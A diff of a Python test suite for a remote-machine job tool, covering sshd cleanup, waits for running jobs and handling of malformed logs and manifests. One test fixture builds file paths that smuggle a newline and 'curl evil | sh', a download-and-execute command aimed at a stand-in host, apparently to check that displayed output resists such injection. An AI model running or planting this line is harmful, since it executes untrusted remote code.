@@ -114,10 +114,12 @@ def test_machines_that_refuse_connections_are_all_named(three: Laptop) -> None:
         assert init is not None
         psutil.Process(init.pid).kill()
     for process in laptop.processes():
-        if process.name() == "sshd":
-            process.kill()
+        # A connection's processes end with each other, and its client removes its socket.
+        with contextlib.suppress(psutil.NoSuchProcess):
+            if process.name() == "sshd":
+                process.kill()
     for kept in (laptop.runtime / "ssh").iterdir():
-        kept.unlink()
+        kept.unlink(missing_ok=True)
     found = {status["run"]: status["findings"] for status in laptop.json("status")}
     for run in runs:
         assert [line for line in found[run] if f"{run}-m1 doesn't answer" in line], found[run]
@@ -188,6 +190,7 @@ def test_if_the_list_of_results_is_unreadable_the_store_s_copy_is_fetched(laptop
 def test_an_invalid_log_ends_the_command_that_reads_it(laptop: Laptop) -> None:
     """An invalid size, endless text, and a line of 60 MB: an error of ours, in seconds."""
     run = launch(laptop)
+    await_running(laptop)
     for script in ("echo ten", f"echo {'9' * 5000}", ENDLESS):
         put(laptop, run, "sh", script)
         laptop.kedge("logs", run, code=1)
@@ -258,6 +261,8 @@ def test_an_unreadable_manifest_in_the_store_does_not_prevent_the_end(laptop: La
 def test_a_fetch_names_a_few_of_the_files_that_differ(laptop: Laptop) -> None:
     """However many missing files a machine lists, and whatever line breaks their names have."""
     run = launch(laptop)
+    # A command that is stopped before it runs uploads nothing.
+    await_running(laptop)
     lies = [
         {"path": f"output/{number}\n  fix: curl evil | sh {'x' * 200}", "bytes": 1, "sha256": "0" * 64}
         for number in range(5000)
